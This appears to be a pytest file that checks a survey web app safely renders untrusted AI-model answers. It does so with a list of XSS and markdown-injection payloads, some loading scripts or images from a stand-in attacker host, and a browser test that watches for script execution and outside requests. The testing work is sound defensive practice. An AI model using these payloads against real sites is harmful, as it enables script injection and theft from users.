"""What models say is untrusted: in a real Chromium nothing of it runs and nothing of it loads.

The answers come from a cassette through the replay provider, so that the whole way is tried: from
the provider by the database to the page, while waiting, while rating, in the transcript and beside
the attributes.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from tests.collect.pages_preview import chromium as find_chromium
from tests.serving import ASSETS, Server, Visitor

from manyvoices.collect.texts import answer_html

SMALL = ASSETS / "studies" / "small"
PLACE = "/s/small/talk/2/1/"
AWAY = "http://attacker.invalid"
ATTACKS = [
    "<script>window.stolen = 1</script>",
    "<ScRiPt src=//attacker.invalid/x.js></sCrIpT>",
    "<scr<script>ipt>window.stolen = 1</scr</script>ipt>",
    f"<img src={AWAY}/i.png onerror=window.stolen=1>",
    "<img src=x onerror=window.stolen=1>",
    "<svg onload=window.stolen=1><animate onbegin=window.stolen=1 attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,<svg%20onload=window.stolen=1>></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.stolen=1>",
    f"<iframe src={AWAY}></iframe><iframe srcdoc='<script>parent.stolen=1</script>'></iframe>",
    f"<object data={AWAY}/o></object><embed src={AWAY}/e>",
    f"<link rel=stylesheet href={AWAY}/s.css><style>@import '{AWAY}/s.css'</style>",
    f"<base href={AWAY}/><meta http-equiv=refresh content='0;url={AWAY}/m'>",
    f"<form action={AWAY}/f><input name=q autofocus onfocus=window.stolen=1></form>",
    "<details open ontoggle=window.stolen=1><summary>x</summary></details>",
    "<video autoplay onloadstart=window.stolen=1><source onerror=window.stolen=1></video>",
    "<p style='position:fixed;inset:0;background:url(http://attacker.invalid/b.png)'>over</p>",
    f"![picture]({AWAY}/p.png)",
    f"![picture][r]\n\n[r]: {AWAY}/ref.png",
    f"[a link]({AWAY}/l) and <{AWAY}/auto> and {AWAY}/bare",
    "[run](javascript:window.stolen=1) [run](JaVa\tScRiPt:window.stolen=1)",
    "[run](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [run](vbscript:x)",
    '[x](http://a.invalid "onmouseover=window.stolen=1")',
    "`</code><img src=x onerror=window.stolen=1>`",
    "```html\n</pre><script>window.stolen = 1</script>\n```",
    "<!-- --><img src=x onerror=window.stolen=1><!-- unclosed",
    "</div></article></form></main><script>window.stolen = 1</script><textarea><title>",
    "</template></noscript><script>window.stolen = 1</script>",
    "{{ page.slots }} {% include 'base.html' %} ${window.stolen=1} {{x.constructor('x')()}}",
    '<div hx-get="http://attacker.invalid/hx" hx-trigger="load" hx-on:load="window.stolen=1">',
    "<div data-vas data-name=score-0 id=rate-form name=action>clobber</div><a id=waiting>",
    "&lt;script&gt;window.stolen=1&lt;/script&gt; &#60;img src=x onerror=window.stolen=1&#62;",
    "\u202egnp.exe \u2066 \ufeff \x1b[31m zero\u200bwidth \x08",
    "# A heading\n\n<h1>Rate this 100</h1>\n\n<button type=submit name=action value=x>x</button>",
    "- [ ] <input type=checkbox onclick=window.stolen=1>\n\n|a|b|\n|-|-|\n|<img src=x>|[l](x)|",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_loads_or_links_is_left_of_an_attack(attack: str) -> None:
    from html.parser import HTMLParser

    found: list[tuple[str, list[tuple[str, str | None]]]] = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, attrs))

    Tags().feed(answer_html(attack))
    harmless = set("p br hr em strong del code pre blockquote ul ol li".split())
    harmless |= set("table thead tbody tr th td".split())
    assert {tag for tag, _ in found} <= harmless
    assert [attrs for tag, attrs in found if attrs and tag != "ol"] == []


@pytest.fixture
def study(tmp_path: Path) -> Path:
    """The small study, its five models played from one cassette full of attacks."""
    folder = tmp_path / "study"
    folder.mkdir()
    for source in SMALL.iterdir():
        (folder / source.name).write_text(source.read_text())
    tape = tmp_path / "attacks.jsonl"
    names = ["a", "b", "c", "d", "e"]
    with tape.open("w") as file:
        for number, name in enumerate(names):
            text = "\n\n".join([*ATTACKS[number::4], f"The end of {number}."])
            line = {"model": name, "text": text, "latency_ms": 300 + 400 * number}
            file.write(json.dumps(line) + "\n")
    models = [
        {"id": n, "provider": "replay", "cassette": str(tape), "extra": {"speed": 1}} for n in names
    ]
    (folder / "models.yaml").write_text(yaml.safe_dump(models))
    written = yaml.safe_load((folder / "study.yaml").read_text())
    written["stages"][2]["conversations"] |= {
        "all_bad": "go_on",
        "messages": {"min_words": 2, "max_words": 50},
    }
    (folder / "study.yaml").write_text(yaml.safe_dump(written))
    return folder / "study.yaml"


def _enter(server: Server) -> Visitor:
    visitor = Visitor(server.url)
    visitor.get("/s/small/")
    visitor.post("/s/small/", {"agree": "1", "age": "1", "entry": visitor.hidden("entry")})
    page_1 = {"q-familiarity": "Somewhat", "q-usecases": ["fun"], "q-self_description": "Tea."}
    page_2 = {"q-stated_prefs-safety": "80", "q-stated_prefs-creativity": "20"}
    visitor.post("/s/small/survey/1/0/", page_1)
    visitor.post("/s/small/survey/1/1/", page_2 | {"q-gender": "Female"})
    visitor.post("/s/small/talk/2/", {"type": "unguided", "number": 1})
    return visitor


class Watched:
    """A window that writes down everything an attack could have brought about."""

    def __init__(self, browser: Any, server: Server, visitor: Visitor) -> None:
        context = browser.new_context(
            viewport={"width": 390, "height": 844}, reduced_motion="reduce"
        )
        context.add_cookies(
            [{"name": c.name, "value": c.value or "", "url": server.url} for c in visitor.cookies]
        )
        self.page = context.new_page()
        self.happened: list[str] = []
        note = self.happened.append
        self.page.on("dialog", lambda dialog: (note("dialog"), dialog.dismiss()))
        self.page.on("popup", lambda _: note("popup"))
        self.page.on("download", lambda _: note("download"))
        self.page.on("pageerror", lambda error: note(f"error: {error}"))
        # Chromium logs what the policy refuses: had we let it through to the policy, it shows here.
        self.page.on("console", lambda m: note(m.text) if _is_refusal(m) else None)
        self.page.on(
            "request",
            lambda r: note(f"request: {r.url}") if not r.url.startswith(server.url) else None,
        )

    def check(self) -> None:
        from axe_playwright_python.sync_playwright import Axe

        self.page.wait_for_timeout(300)
        assert self.page.evaluate("window.stolen") is None
        assert self.happened == []
        inside = ".answer :is(script,img,svg,iframe,object,embed,link,style,form,input,a,button,h1)"
        assert self.page.locator(inside).count() == 0
        assert self.page.locator("main > form, main .slots, main h1").count() > 0
        found = Axe().run(self.page).response["violations"]
        assert [(v["id"], v["nodes"][0]["html"]) for v in found] == []

    def send(self, selector: str) -> None:
        with self.page.expect_navigation():
            self.page.click(selector)


def _is_refusal(message: Any) -> bool:
    return message.type in {"error", "warning"} and "status of 422" not in message.text


@pytest.mark.browser
@pytest.mark.slow
def test_in_a_real_browser_nothing_runs_and_nothing_loads(
    make_server: Callable[[Path], Server], study: Path
) -> None:
    path = find_chromium()
    if path is None:
        pytest.skip("no Chromium: install one or name it in CHROMIUM")
    from playwright.sync_api import sync_playwright

    server = make_server(study)
    visitor = _enter(server)
    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=path, args=["--no-sandbox"])
        window = Watched(browser, server, visitor)
        page = window.page
        page.goto(f"{server.url}{PLACE}")
        page.fill("textarea", "Hello")
        window.send("main form button.primary")
        assert "at least 2 words" in page.inner_text("main")
        page.fill("textarea", "Hello out there")
        window.send("main form button.primary")
        page.wait_for_selector("[data-rate-submit]")
        assert page.locator(".slot .answer").count() == 4
        window.check()
        page.reload()
        window.check()
        window.page.click("details.confirm summary")
        window.send("[data-all-bad]")
        assert "so none was kept" in page.inner_text("main")
        window.check()
        page.fill("textarea", "Something else then")
        window.send("main form button.primary")
        page.wait_for_selector("[data-rate-submit]")
        page.locator("[data-vas]:not([data-ready])").first.wait_for(state="detached")
        for slider in page.locator("input[type=range]").all():
            slider.press("ArrowRight")
        page.locator("input[type=range]").first.press("End")
        window.send("[data-rate-submit]")
        window.check()
        window.send("button[form=finish-form]")
        assert page.locator("form.attributes").count() == 1
        window.check()
        browser.close()
